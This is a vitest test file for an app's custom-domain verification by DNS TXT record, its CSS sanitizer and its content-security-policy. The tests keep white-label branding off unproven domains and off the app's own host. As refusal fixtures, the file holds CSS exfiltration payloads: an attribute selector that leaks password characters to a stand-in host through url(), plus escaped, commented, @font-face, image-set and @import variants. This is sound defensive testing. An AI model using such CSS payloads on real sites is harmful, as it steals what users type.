import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RATE_LIMITS } from '../services/infrastructure/rate-limiter';
import { registerTestAccount, type TestAccount } from '../testing/accounts';
import { createFakeDns, proveCustomDomain } from '../testing/fake-dns';
import { DIALECTS } from '../testing/test-databases';
import { startTestServer, type TestServer } from '../testing/test-server';

// The attack: a white-label organization set its custom domain to the app's own host, and every
// signed-out visitor there got its brand and custom CSS, whose attribute selectors with url() can send
// what people type to another server. Replayed over HTTP: a domain must be proven by a DNS TXT record
// before it shows a brand, the app's own host can never be one, and CSS that loads anything is never
// accepted nor served.

const APP_HOST = 'app.citewise.example';
const LEAKY_CSS = 'input[type="password"][value^="a"] { background: url(https://evil.example/leak?a) }';
const NO_LOADING = ': it cannot load images, fonts or other files';

type ErrorBody = { message?: string; code?: string; fieldErrors?: Record<string, string[]> };
interface Brand {
  name: string;
  customCss: string | null;
}
interface Details {
  organization: {
    customDomain: string | null;
    customCss: string | null;
    customCssProblem: string | null;
    domainVerification: { verifiedAt: string | null; recordType: string; recordName: string; recordValue: string } | null;
  };
}

describe.each(DIALECTS)('custom domains and custom CSS, on %s', (dialect) => {
  let server: TestServer;
  const dns = createFakeDns();
  /** How the next lookups fail instead of answering from `dns`, when set. */
  let failure: 'hang' | 'servfail' | undefined;

  beforeAll(async () => {
    server = await startTestServer(dialect, {
      publicUrl: `https://${APP_HOST}`,
      resolveTxt: (name) => {
        if (failure === 'hang') return new Promise<string[][]>(() => undefined);
        if (failure === 'servfail') return Promise.reject(Object.assign(new Error(`queryTxt ESERVFAIL ${name}`), { code: 'ESERVFAIL' }));
        return dns.resolveTxt(name);
      },
      dnsTimeoutMs: 300,
    });
  });
  afterAll(async () => {
    await server?.close();
  });

  /** The owner of a white-label partner organization. */
  async function partner(): Promise<TestAccount> {
    const account = await registerTestAccount(server, { role: 'partner', prefix: 'domain' });
    await server.database.repositories.organizations.update(account.organizationId, { type: 'white_label', name: `Brand ${account.userId}` });
    return account;
  }
  const uniqueDomain = (label: string) => `${label}-${randomUUID().slice(0, 8)}.example.com`;
  const setBranding = (account: TestAccount, body: Record<string, unknown>) =>
    server.request<ErrorBody & Details>('PATCH', '/api/organization', { token: account.token, body });
  const verify = (account: TestAccount) =>
    server.request<ErrorBody & Details>('POST', '/api/organization/domain/verify', { token: account.token });
  const details = async (account: TestAccount) =>
    (await server.request<Details>('GET', '/api/organization', { token: account.token })).body.organization;
  /** The brand a signed-out visitor of `host` gets. */
  const brandOn = async (host: string) =>
    (await server.request<{ brand: Brand | null }>('GET', '/api/branding', { headers: { 'x-forwarded-host': host } })).body.brand;

  it("refuses the app's own address, this machine and IP addresses as a custom domain", async () => {
    const owner = await partner();
    for (const domain of [APP_HOST, 'APP.Citewise.Example', 'acme.localhost']) {
      const refused = await setBranding(owner, { customDomain: domain });
      expect(refused.status, domain).toBe(400);
      expect(refused.body.fieldErrors?.customDomain?.[0], domain).toMatch(/this app's own address|localhost address/);
    }
    expect((await setBranding(owner, { customDomain: APP_HOST })).body.fieldErrors?.customDomain).toEqual([
      `${APP_HOST} is this app's own address, so it cannot be a custom domain. Use a domain of your own, such as listings.example.com`,
    ]);
    for (const domain of ['10.0.0.1', '[::1]']) {
      expect((await setBranding(owner, { customDomain: domain })).status, domain).toBe(400);
    }
    expect((await details(owner)).customDomain).toBeNull();
    expect(await brandOn(APP_HOST)).toBeNull();
  });

  it("brands nothing on the app's own address even when a row claims it as proven", async () => {
    const owner = await partner();
    await server.database.repositories.organizations.update(owner.organizationId, {
      customDomain: APP_HOST,
      customDomainVerifiedAt: new Date(),
      customCss: '.sidebar { font-weight: 600 }',
    });
    for (const host of [APP_HOST, `${APP_HOST}.`, APP_HOST.toUpperCase()]) expect(await brandOn(host), host).toBeNull();
    const check = await verify(owner);
    expect(check.status).toBe(400);
    expect(check.body.fieldErrors?.customDomain?.[0]).toContain("this app's own address");
  });

  it('shows no brand on a domain DNS has not proven, and names the record to add', async () => {
    const owner = await partner();
    const domain = uniqueDomain('unproven');
    const saved = await setBranding(owner, { customDomain: domain, customCss: '.sidebar { font-weight: 600 }' });
    expect(saved.status).toBe(200);
    const verification = saved.body.organization.domainVerification!;
    expect(verification).toMatchObject({ verifiedAt: null, recordType: 'TXT', recordName: `_citewise-verify.${domain}` });
    expect(verification.recordValue).toMatch(/^citewise-verification=[0-9a-f]{40}$/);
    expect(await brandOn(domain)).toBeNull();
    // Signed in, the organization's own people still see their brand.
    const own = await server.request<{ brand: Brand | null }>('GET', '/api/branding', { token: owner.token });
    expect(own.body.brand?.customCss).toBe('.sidebar { font-weight: 600 }');
  });

  it('proves a domain only by the right TXT record', async () => {
    const owner = await partner();
    const rival = await partner();
    const domain = uniqueDomain('proof');
    await setBranding(owner, { customDomain: domain });
    const { recordName, recordValue } = (await details(owner)).domainVerification!;

    const none = await verify(owner);
    expect(none.status).toBe(400);
    expect(none.body.code).toBe('DOMAIN_NOT_VERIFIED');
    expect(none.body.message).toBe(
      `No TXT record named ${recordName} was found. Add a TXT record named ${recordName} with the value ${recordValue}, then check again. New DNS records can take up to an hour to appear.`,
    );

    dns.publish(recordName, 'citewise-verification=0000000000000000000000000000000000000000');
    const wrong = await verify(owner);
    expect(wrong.status).toBe(400);
    expect(wrong.body.message).toContain(`The TXT record ${recordName} does not hold the expected value.`);
    expect(wrong.body.message).toContain(recordValue);

    // Another organization's record for the same domain proves nothing for this one.
    await setBranding(rival, { customDomain: uniqueDomain('rival') });
    const rivalValue = (await details(rival)).domainVerification!.recordValue;
    expect(rivalValue).not.toBe(recordValue);
    dns.publish(recordName, rivalValue);
    expect((await verify(owner)).status).toBe(400);
    expect(await brandOn(domain)).toBeNull();

    // Among other TXT records, and split in chunks as DNS may split a long value, the right one proves it.
    dns.publish(recordName, 'v=spf1 -all', [recordValue.slice(0, 20), recordValue.slice(20)]);
    const right = await verify(owner);
    expect(right.status).toBe(200);
    expect(right.body.organization.domainVerification?.verifiedAt).toEqual(expect.any(String));
    expect((await brandOn(domain))?.name).toBe(`Brand ${owner.userId}`);
  });

  it('limits DNS checks per organization, since each sends queries to a name the tenant chose', async () => {
    const owner = await partner();
    await setBranding(owner, { customDomain: uniqueDomain('loop') });
    const statuses: number[] = [];
    for (let check = 0; check <= RATE_LIMITS.domainChecksPerOrganization.limit; check++) statuses.push((await verify(owner)).status);
    expect(statuses.slice(0, -1).every((status) => status === 400)).toBe(true);
    expect(statuses.at(-1)).toBe(429);
  });

  it('answers a DNS server that is silent or failing with a message to try again, not a stack', async () => {
    const owner = await partner();
    await setBranding(owner, { customDomain: uniqueDomain('silent') });
    const { recordName } = (await details(owner)).domainVerification!;
    try {
      failure = 'hang';
      const silent = await verify(owner);
      expect(silent.status).toBe(503);
      expect(silent.body.message).toBe(`The DNS lookup of ${recordName} did not answer in time. Please try again in a few minutes.`);
      failure = 'servfail';
      const failing = await verify(owner);
      expect(failing.status).toBe(503);
      expect(failing.body.message).toBe(`The DNS lookup of ${recordName} could not be completed. Please try again in a few minutes.`);
      expect(failing.text).not.toMatch(/ESERVFAIL|at .*\.ts/);
    } finally {
      failure = undefined;
    }
    expect((await details(owner)).domainVerification?.verifiedAt).toBeNull();
  });

  it('unproves a domain when it changes, and keeps the proof when the same domain is saved again', async () => {
    const owner = await partner();
    const first = uniqueDomain('first');
    await setBranding(owner, { customDomain: first });
    await proveCustomDomain(server, dns, owner.token);
    expect((await brandOn(first))?.name).toBe(`Brand ${owner.userId}`);

    const again = await setBranding(owner, { customDomain: first, primaryColor: '#112233' });
    expect(again.body.organization.domainVerification?.verifiedAt).toEqual(expect.any(String));

    const second = uniqueDomain('second');
    const moved = await setBranding(owner, { customDomain: second });
    expect(moved.body.organization.domainVerification).toMatchObject({ verifiedAt: null, recordName: `_citewise-verify.${second}` });
    expect(await brandOn(first)).toBeNull();
    expect(await brandOn(second)).toBeNull();

    // Back to the first domain: its old proof does not come back with it.
    await setBranding(owner, { customDomain: first });
    expect((await details(owner)).domainVerification?.verifiedAt).toBeNull();
    expect(await brandOn(first)).toBeNull();
  });

  it('lets unproven claims coexist, so a squatter neither blocks nor unsets the owner, and the one who proves it holds it', async () => {
    const squatter = await partner();
    const owner = await partner();
    const domain = uniqueDomain('squatted');
    expect((await setBranding(squatter, { customDomain: domain })).status).toBe(200);
    expect((await setBranding(owner, { customDomain: domain })).status).toBe(200);
    // Claiming again and again takes nothing from the owner's claim.
    expect((await setBranding(squatter, { customDomain: domain })).status).toBe(200);
    expect((await details(owner)).customDomain).toBe(domain);
    await proveCustomDomain(server, dns, owner.token);
    expect((await brandOn(domain))?.name).toBe(`Brand ${owner.userId}`);

    // Even with its own record published, the squatter cannot prove a domain another organization holds.
    const record = (await details(squatter)).domainVerification!;
    dns.publish(record.recordName, record.recordValue);
    const second = await verify(squatter);
    expect(second.status).toBe(409);
    expect(second.body.message).toBe('Another organization uses that domain');
    const taken = await setBranding(squatter, { customDomain: uniqueDomain('elsewhere') });
    expect(taken.status).toBe(200);
    const again = await setBranding(squatter, { customDomain: domain });
    expect(again.status).toBe(409);
    expect(again.body.fieldErrors).toEqual({ customDomain: ['Another organization uses that domain'] });
    expect((await brandOn(domain))?.name).toBe(`Brand ${owner.userId}`);
  });

  it.each([
    ['url()', LEAKY_CSS, `Custom CSS may not use url()${NO_LOADING}`],
    ['an escaped url()', 'input[value^="a"] { background: u\\72l(https://evil.example/a) }', 'Custom CSS may not use backslash escapes'],
    ['an escape at the start', 'input[value^="a"] { background: \\75 rl(https://evil.example/a) }', 'Custom CSS may not use backslash escapes'],
    ['a comment inside url()', 'input[value^="a"] { background: u/**/rl(https://evil.example/a) }', `Custom CSS may not use url()${NO_LOADING}`],
    ['@font-face', '@font-face { font-family: leak; src: local(Arial); unicode-range: U+61 }', `Custom CSS may not use @font-face${NO_LOADING}`],
    ['image-set()', 'input[value^="a"] { background-image: image-set("https://evil.example/a.png" 1x) }', `Custom CSS may not use image-set()${NO_LOADING}`],
    ['-webkit-image-set()', 'a { background-image: -webkit-image-set("https://evil.example/a.png" 1x) }', `Custom CSS may not use -webkit-image-set()${NO_LOADING}`],
    ['@import', '@import "https://evil.example/x.css";', 'Custom CSS may not use @import'],
    ['@namespace', '@namespace x "https://evil.example/";', `Custom CSS may not use @namespace${NO_LOADING}`],
  ])('refuses custom CSS with %s, saying why', async (_name, css, message) => {
    const owner = await partner();
    const refused = await setBranding(owner, { customCss: css });
    expect(refused.status).toBe(400);
    expect(refused.body.fieldErrors).toEqual({ customCss: [message] });
    expect((await details(owner)).customCss).toBeNull();
  });

  it('lets the page load images only from itself and https logos, and styles and fonts only from itself', async () => {
    const policy = (await server.request('GET', '/api/health')).headers.get('content-security-policy') ?? '';
    const directive = (name: string) => policy.split(';').find((part) => part.trim().startsWith(`${name} `))?.trim();
    expect(directive('img-src')).toBe("img-src 'self' https:");
    expect(directive('style-src')).toBe("style-src 'self' 'unsafe-inline'");
    expect(directive('font-src')).toBe("font-src 'self'");
    expect(directive('default-src')).toBe("default-src 'self'");
  });

  it('never serves CSS stored before the rules refused it', async () => {
    const owner = await partner();
    const domain = uniqueDomain('stored-css');
    await setBranding(owner, { customDomain: domain });
    await proveCustomDomain(server, dns, owner.token);
    await server.database.repositories.organizations.update(owner.organizationId, { customCss: LEAKY_CSS });

    const signedIn = await server.request<{ brand: Brand | null }>('GET', '/api/branding', { token: owner.token });
    expect(signedIn.body.brand).toMatchObject({ name: `Brand ${owner.userId}`, customCss: null });
    expect(await brandOn(domain)).toMatchObject({ name: `Brand ${owner.userId}`, customCss: null });
    const shown = await details(owner);
    expect(shown.customCss).toBeNull();
    expect(shown.customCssProblem).toBe(`Custom CSS may not use url()${NO_LOADING}`);
    for (const response of [signedIn.text, JSON.stringify(shown)]) expect(response).not.toContain('evil.example');
  });
});
